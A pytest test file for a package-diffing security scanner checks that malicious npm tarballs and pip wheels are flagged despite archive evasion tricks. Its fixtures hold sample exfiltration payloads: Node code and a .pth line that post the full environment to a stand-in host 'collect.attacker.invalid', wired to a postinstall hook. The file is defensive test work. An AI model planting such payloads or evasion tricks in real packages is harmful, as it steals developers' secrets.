"""Issue 9's archive attacks, each through the real CLI: what npm or pip installs is judged.

Each archive is built here from synthetic, defanged files. The assertions are the verdict a
reviewer sees (severity, the finding that names why) and the exit code; the hang guard only
catches a regression to the old minutes-long behaviour (speed is the benchmark's to measure).
"""

from __future__ import annotations

import json
import tarfile
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.support import archives as A
from watcher.cli import main

PINNED = {
    "package.json": '{"name":"srv","version":"1.0.0","main":"index.js"}',
    "index.js": "module.exports = () => 'ok';\n",
}
PAYLOAD = (
    "const https = require('https');\n"
    "https.request({host: 'collect.attacker.invalid', method: 'POST'})"
    ".end(JSON.stringify(process.env));\n"
)
HOOKED = '{"name":"srv","version":"1.0.1","main":"index.js","scripts":{"postinstall":"node i.js"}}'
CLEAN_NEXT = '{"name":"srv","version":"1.0.1","main":"index.js"}'
#: Generous: each case takes well under a second; the attacks took minutes before the fix.
HANG_GUARD_SECONDS = 60


@pytest.fixture
def guard() -> Iterator[None]:
    started = time.monotonic()
    yield
    assert time.monotonic() - started < HANG_GUARD_SECONDS


def _diff(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], new: bytes
) -> tuple[int, dict[str, Any]]:
    old_path, new_path = tmp_path / "srv-1.0.0.tgz", tmp_path / "srv-1.0.1.tgz"
    old_path.write_bytes(A.npm_tarball(PINNED))
    new_path.write_bytes(new)
    code = main(["diff", "--old", str(old_path), "--new", str(new_path), "--format", "json"])
    out, err = capsys.readouterr()
    assert err == "" or "Traceback" not in err
    return code, json.loads(out)


def _wheel_files(init: str) -> dict[str, str | bytes]:
    """A minimal pure wheel of `demo` 1.0 whose `__init__.py` is `init`."""
    dist = "demo-1.0.dist-info"
    return {
        f"{dist}/METADATA": "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
        f"{dist}/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        "demo/__init__.py": init,
    }


def _diff_wheels(
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    old: dict[str, str | bytes],
    new: dict[str, str | bytes],
) -> tuple[int, dict[str, Any]]:
    old_path, new_path = tmp_path / "demo-1.0-py3-none-any.whl", tmp_path / "new.whl"
    old_path.write_bytes(A.wheel(old))
    new_path.write_bytes(A.wheel(new))
    code = main(["diff", "--old", str(old_path), "--new", str(new_path), "--format", "json"])
    return code, json.loads(capsys.readouterr().out)


def _rules(report: dict[str, Any]) -> set[str]:
    return {f["rule"] for f in report["findings"]}


def _install_hook_caught(code: int, report: dict[str, Any]) -> None:
    assert code == 1
    assert report["severity"] == "critical", report["findings"]
    assert any(f["rule"].startswith("npm.install-script") for f in report["findings"])


@pytest.mark.usefixtures("guard")
def test_a_second_top_folder_overwrites_package_json(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """npm strips the first segment of every entry: `other/package.json` lands at the root
    after `package/package.json` and is the one npm reads, postinstall and all."""
    tarball = A.tgz(
        [
            A.regular("package/package.json", CLEAN_NEXT),
            A.regular("package/index.js", PINNED["index.js"]),
            A.regular("other/package.json", HOOKED),
            A.regular("other/i.js", PAYLOAD),
        ]
    )
    code, report = _diff(tmp_path, capsys, tarball)
    _install_hook_caught(code, report)
    assert "archive.installer-view" in _rules(report)


@pytest.mark.usefixtures("guard")
def test_an_extra_top_level_file_does_not_hide_the_package(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    tarball = A.tgz(
        [
            A.regular("README", "top-level file npm skips\n"),
            A.regular("package/package.json", HOOKED),
            A.regular("package/index.js", PINNED["index.js"]),
            A.regular("package/i.js", PAYLOAD),
        ]
    )
    code, report = _diff(tmp_path, capsys, tarball)
    _install_hook_caught(code, report)


@pytest.mark.usefixtures("guard")
def test_a_root_folder_not_named_package(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    files = {"package.json": HOOKED, "index.js": PINNED["index.js"], "i.js": PAYLOAD}
    code, report = _diff(tmp_path, capsys, A.npm_tarball(files, root="srv"))
    _install_hook_caught(code, report)


@pytest.mark.usefixtures("guard")
def test_a_backslash_name_npm_on_windows_installs(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """`package\\i.js` is skipped by npm on Linux but installed as `i.js` on Windows."""
    tarball = A.tgz(
        [
            A.regular("package/package.json", HOOKED),
            A.regular("package/index.js", PINNED["index.js"]),
            A.regular("package\\i.js", PAYLOAD),
        ]
    )
    code, report = _diff(tmp_path, capsys, tarball)
    _install_hook_caught(code, report)
    assert "archive.installer-view" in _rules(report)


@pytest.mark.usefixtures("guard")
def test_a_later_duplicate_entry_is_what_gets_installed(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    tarball = A.tgz(
        [
            A.regular("package/package.json", HOOKED),
            A.regular("package/index.js", PINNED["index.js"]),
            A.regular("package/i.js", "// nothing to see\n"),
            A.regular("package/i.js", PAYLOAD),
        ]
    )
    code, report = _diff(tmp_path, capsys, tarball)
    _install_hook_caught(code, report)
    assert "archive.installer-view" in _rules(report)


@pytest.mark.usefixtures("guard")
@pytest.mark.parametrize(
    ("package_json", "why"),
    [
        pytest.param('{"name":"srv","version":"1.0.1",}', "not valid JSON", id="invalid"),
        pytest.param("[" * 3000 + "]" * 3000, "nested too deep", id="nested-3000"),
        pytest.param('["srv", "1.0.1"]', "not a JSON object", id="not-an-object"),
        pytest.param("[" * 100_000, "nested too deep", id="nested-100000"),
    ],
)
def test_an_unreadable_package_json_is_reported_not_silent(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], package_json: str, why: str
) -> None:
    tarball = A.npm_tarball({"package.json": package_json, "index.js": PINNED["index.js"]})
    code, report = _diff(tmp_path, capsys, tarball)
    assert code == 1 and report["severity"] in ("high", "critical")
    [incomplete] = [f for f in report["findings"] if f["rule"] == "analysis.incomplete"]
    assert incomplete["path"] == "package.json" and why in incomplete["message"]


@pytest.mark.usefixtures("guard")
def test_data_after_the_end_marker_is_analysed_as_installed(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """npm and pip stop at the end-of-archive marker: the payload before it is judged, and
    the hidden bytes after it are noted (17 of 400 real malicious sdists look like this)."""
    members = [
        A.regular("package/package.json", HOOKED),
        A.regular("package/index.js", PINNED["index.js"]),
        A.regular("package/i.js", PAYLOAD),
    ]
    tarball = A.gz(A.tar(members) + A.tar([A.regular("package/x.js", "hidden\n")]))
    code, report = _diff(tmp_path, capsys, tarball)
    _install_hook_caught(code, report)
    assert "archive.installer-view" in _rules(report)


@pytest.mark.usefixtures("guard")
def test_a_global_pax_header_is_read_like_any_tar(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    import io

    buffer = io.BytesIO()
    with tarfile.open(
        fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT, pax_headers={"comment": "abc"}
    ) as archive:
        for name, text in (
            ("package/package.json", HOOKED),
            ("package/index.js", PINNED["index.js"]),
            ("package/i.js", PAYLOAD),
        ):
            data = text.encode()
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    code, report = _diff(tmp_path, capsys, A.gz(buffer.getvalue()))
    _install_hook_caught(code, report)


@pytest.mark.usefixtures("guard")
def test_a_refused_archive_is_a_high_finding_with_exit_1(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _, bomb = A.gzip_bomb()
    code, report = _diff(tmp_path, capsys, bomb)
    assert code == 1 and report["severity"] == "high"
    [incomplete] = [f for f in report["findings"] if f["rule"] == "analysis.incomplete"]
    assert "archive refused" in incomplete["message"]


@pytest.mark.usefixtures("guard")
def test_a_wheel_data_purelib_pth_runs_at_interpreter_start(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """pip installs `.data/purelib/x.pth` into site-packages, where `site` runs it."""
    pth = (
        "import os, urllib.request; urllib.request.urlopen("
        "'https://collect.attacker.invalid/', data=str(dict(os.environ)).encode())\n"
    )
    base = _wheel_files("")
    new = {**base, "demo-1.0.data/purelib/zz_demo.pth": pth}
    code, report = _diff_wheels(tmp_path, capsys, base, new)
    assert code == 1 and report["severity"] == "critical", report["findings"]
    assert any(f["path"] == "zz_demo.pth" for f in report["findings"])


RUNTIME_PAYLOAD = (
    "const https = require('https');\n"
    "https.request({host: 'collect.attacker.invalid', method: 'POST'})"
    ".end(JSON.stringify(process.env));\n"
)


@pytest.mark.usefixtures("guard")
@pytest.mark.parametrize(
    ("main", "files"),
    [
        pytest.param(
            "index.js",
            {"index.js": "require('./lib/util.d.ts');\n", "lib/util.d.ts": RUNTIME_PAYLOAD},
            id="require-d.ts",
        ),
        pytest.param(
            "index.js",
            {"index.js": "require('./lib/data.dat');\n", "lib/data.dat": RUNTIME_PAYLOAD},
            id="require-dat",
        ),
        pytest.param(
            "index.js",
            {"index.js": "require('./lib/helper');\n", "lib/helper": RUNTIME_PAYLOAD},
            id="require-extensionless",
        ),
        pytest.param("lib/server.txt", {"lib/server.txt": RUNTIME_PAYLOAD}, id="main-txt"),
    ],
)
def test_code_node_runs_whatever_its_name_is_analysed_as_code(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], main: str, files: dict[str, str]
) -> None:
    """`require` runs any file as CommonJS (except .json and .node): a payload in a `.d.ts`,
    `.dat` or extensionless file, or a `main` ending in `.txt`, is code (was NONE)."""
    manifest = json.dumps({"name": "srv", "version": "1.0.1", "main": main})
    code, report = _diff(tmp_path, capsys, A.npm_tarball({"package.json": manifest, **files}))
    assert code == 1 and report["severity"] in ("high", "critical"), report["findings"]
    payload = next(p for p, text in files.items() if text == RUNTIME_PAYLOAD)
    strong = [f for f in report["findings"] if f["severity"] in ("high", "critical")]
    assert any(f["path"] == payload for f in strong), strong


@pytest.mark.usefixtures("guard")
@pytest.mark.parametrize(
    "hostile",
    [
        pytest.param("a" + "\n.b" * 3000 + "()\n", id="member-chain-3000"),
        pytest.param("(" * 100_000 + "\n", id="open-parens-100000"),
        pytest.param("const u = 'https://" + "a" * 120_000 + "..invalid';\n", id="url-120000"),
        pytest.param("const h = '" + "a." * 60_000 + "invalid';\n", id="host-120000"),
    ],
)
def test_a_parser_or_regex_attack_does_not_hide_the_payload_beside_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], hostile: str
) -> None:
    """The attack file sorts before the payload; the payload is still judged (was NONE after
    a RecursionError, or minutes of regex or query work)."""
    files = {
        "package.json": '{"name":"srv","version":"1.0.1","main":"index.js"}',
        "index.js": "require('./lib/a.js');\nrequire('./lib/z.js');\n",
        "lib/a.js": "require('child_process');\n" + hostile,
        "lib/z.js": RUNTIME_PAYLOAD,
    }
    code, report = _diff(tmp_path, capsys, A.npm_tarball(files))
    assert code == 1, report["findings"]
    strong = [f for f in report["findings"] if f["severity"] in ("high", "critical")]
    assert any(f["path"] == "lib/z.js" for f in strong), report["findings"]


@pytest.mark.usefixtures("guard")
def test_a_sourceless_pyc_the_package_imports_is_reported(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """`from ._speedups import run` imports `_speedups.pyc` when its magic number matches."""
    import importlib.util

    pyc = importlib.util.MAGIC_NUMBER + b"\0" * 12 + b"\xe3" + b"\0" * 64
    base = _wheel_files("X = 1\n")
    new = {**base, "demo/__init__.py": "from ._speedups import run\n", "demo/_speedups.pyc": pyc}
    code, report = _diff_wheels(tmp_path, capsys, base, new)
    assert code == 1 and report["severity"] in ("high", "critical"), report["findings"]
    assert any(
        f["rule"] == "code.opaque" and f["path"] == "demo/_speedups.pyc" for f in report["findings"]
    )
